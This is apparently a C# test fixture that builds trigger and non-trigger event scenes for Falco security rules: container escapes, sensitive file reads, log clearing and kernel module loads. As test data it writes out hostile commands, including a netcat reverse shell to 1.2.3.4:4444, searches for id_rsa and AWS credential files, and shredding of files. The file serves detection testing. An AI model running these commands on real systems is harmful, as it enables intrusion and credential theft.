using Skerry.Guard.Events;

namespace Skerry.Guard.Tests.Rules;

/// <summary>Scenes for falco_rules.yaml.</summary>
internal static class StableScenes
{
    private static ContainerFacts Container => Make.Container();

    private static ProcessFacts Sshd => Make.Process("sshd -D", Make.Process("systemd"));

    public static IEnumerable<StockScene> All => Files().Concat(Processes()).Concat(Others());

    private static IEnumerable<StockScene> Files()
    {
        yield return new(
            "Directory traversal monitored file read",
            Make.Open(Make.Process("php-fpm", Make.Process("php-fpm")), "/etc/motd", raw: "../../../etc/motd"),
            Make.Open(Make.Process("php-fpm", Make.Process("php-fpm")), "/etc/motd", raw: "/etc/motd"));
        yield return new(
            "Read sensitive file trusted after startup",
            Make.Open(Old(Make.Process("nginx -g x")), "/etc/shadow"),
            Make.Open(Make.Process("nginx -g x"), "/etc/shadow"),
            "Read sensitive file untrusted");
        yield return new("Read sensitive file untrusted", Make.Open(Make.Process("vim /etc/shadow"), "/etc/shadow"), Make.Open(Make.Process("passwd"), "/etc/shadow"));
        yield return new(
            "Clear Log Activities",
            Make.Open(Make.Process("truncate -s 0"), "/var/log/auth.log", Make.WriteOnly | Make.Truncate),
            Make.Open(Make.Process("truncate -s 0"), "/var/log/auth.log", Make.WriteOnly));
        yield return new(
            "Create Symlink Over Sensitive Files",
            Make.Event("symlinkat", Make.Process("ln -s"), 0, ("target", "/etc/shadow"), ("linkpath", "/tmp/x")),
            Make.Event("symlinkat", Make.Process("ln -s"), 0, ("target", "/etc/hosts"), ("linkpath", "/tmp/x")));
        yield return new(
            "Create Hardlink Over Sensitive Files",
            Make.Event("linkat", Make.Process("ln"), 0, ("oldpath", "/etc/shadow"), ("newpath", "/tmp/x")),
            Make.Event("linkat", Make.Process("ln"), 0, ("oldpath", "/etc/hosts"), ("newpath", "/tmp/x")));
        yield return new(
            "Detect release_agent File Container Escapes",
            Make.Open(Capable(Make.Process("sh", container: Container), 1 << 21), "/sys/fs/cgroup/rdma/release_agent", Make.WriteOnly),
            Make.Open(Capable(Make.Process("sh", container: Container), 0), "/sys/fs/cgroup/rdma/release_agent", Make.WriteOnly));
    }

    private static IEnumerable<StockScene> Processes()
    {
        yield return new(
            "Run shell untrusted",
            Make.Exec(Make.Process("sh -c id", Make.Process("nginx", Make.Process("systemd")))),
            Make.Exec(Make.Process("sh -c id", Make.Process("cron", Make.Process("nginx")))));
        yield return new(
            "System user interactive",
            Make.Exec(Make.Process("id", Make.Process("bash", Sshd), user: "www-data", uid: 33)),
            Make.Exec(Make.Process("id", Make.Process("bash", Make.Process("cron")), user: "www-data", uid: 33)));
        yield return new(
            "Terminal shell in container",
            Make.Exec(Make.Process("bash", container: Container, tty: 34816)),
            Make.Exec(Make.Process("bash", container: Container)));
        yield return new(
            "Netcat Remote Code Execution in Container",
            Make.Exec(Make.Process("nc -e /bin/sh 1.2.3.4 4444", container: Container)),
            Make.Exec(Make.Process("nc -z 1.2.3.4 4444", container: Container)));
        yield return new(
            "Search Private Keys or Passwords",
            Make.Exec(Make.Process("find / -name id_rsa")),
            Make.Exec(Make.Process("find / -name id")));
        yield return new("Remove Bulk Data from Disk", Make.Exec(Make.Process("shred -u x")), Make.Exec(Make.Process("rm -u x")));
        yield return new(
            "Debugfs Launched in Privileged Container",
            Make.Exec(Make.Process("debugfs /dev/sda", container: Make.Container(privileged: true))),
            Make.Exec(Make.Process("debugfs /dev/sda", container: Container)));
        yield return new("Find AWS Credentials", Make.Exec(Make.Process("find / -name .aws/credentials")), Make.Exec(Make.Process("find / -name .aws/config")));
        yield return new("Execution from /dev/shm", Make.Exec(Make.Process("/dev/shm/x -a")), Make.Exec(Make.Process("/dev/shmx/x -a")));
        yield return new(
            "Drop and execute new binary in container",
            Make.Exec(InLayer(Make.Process("/tmp/miner", container: Container), isUpper: true)),
            Make.Exec(InLayer(Make.Process("/tmp/miner", container: Container), isUpper: false)));
        yield return new(
            "Fileless execution via memfd_create",
            Make.Exec(InMemory(Make.Process("memfd:x"))),
            Make.Exec(InMemory(Make.Process("runc init"))));
    }

    private static IEnumerable<StockScene> Others()
    {
        yield return new(
            "Contact K8S API Server From Container",
            Make.Connect(Make.Process("curl", container: Container), "10.96.0.1", 443, serverName: "kubernetes.default.svc.cluster.local"),
            Make.Connect(Make.Process("curl", container: Make.Container(ns: "kube-system")), "10.96.0.1", 443, serverName: "kubernetes.default.svc.cluster.local"));
        yield return new(
            "Packet socket created in container",
            Make.Event("socket", Make.Process("tcpdump", container: Container), 4, ("domain", 17)),
            Make.Event("socket", Make.Process("curl", container: Container), 4, ("domain", 2)));
        yield return new(
            "Redirect STDOUT/STDIN to Network Connection in Container",
            Make.Connect(Make.Process("sh", container: Container), "93.184.216.34", 4444, result: 1, type: "dup2"),
            Make.Connect(Make.Process("sh", container: Container), "93.184.216.34", 4444, result: 7, type: "dup2"));
        yield return new(
            "Linux Kernel Module Injection Detected",
            Make.Event("finit_module", Capable(Make.Process("insmod x.ko", container: Container), 1 << 16)),
            Make.Event("finit_module", Capable(Make.Process("insmod x.ko"), 1 << 16)));
        yield return new(
            "PTRACE attached to process",
            Make.Event("ptrace", Make.Process("gdb -p 1"), 0, ("request", 16)),
            Make.Event("ptrace", Make.Process("gdb -p 1"), 0, ("request", 1)));
        yield return new(
            "PTRACE anti-debug attempt",
            Make.Event("ptrace", Make.Process("malware"), 0, ("request", 0)),
            Make.Event("ptrace", Make.Process("malware"), 0, ("request", 24)));
        yield return new(
            "Disallowed SSH Connection Non Standard Port",
            Make.Connect(Make.Process("/usr/bin/ssh -p 443 x"), "93.184.216.34", 443),
            Make.Connect(Make.Process("/usr/bin/ssh -p 443 x"), "10.1.2.3", 443));
    }

    private static ProcessFacts Old(ProcessFacts process)
    {
        process.StartTime = Make.Now - (10 * Make.Second);
        return process;
    }

    private static ProcessFacts Capable(ProcessFacts process, ulong capabilities)
    {
        process.EffectiveCapabilities = capabilities;
        return process;
    }

    private static ProcessFacts InLayer(ProcessFacts process, bool isUpper)
    {
        process.IsExecutableInUpperLayer = isUpper;
        return process;
    }

    private static ProcessFacts InMemory(ProcessFacts process)
    {
        process.IsExecutableInMemory = true;
        return process;
    }
}
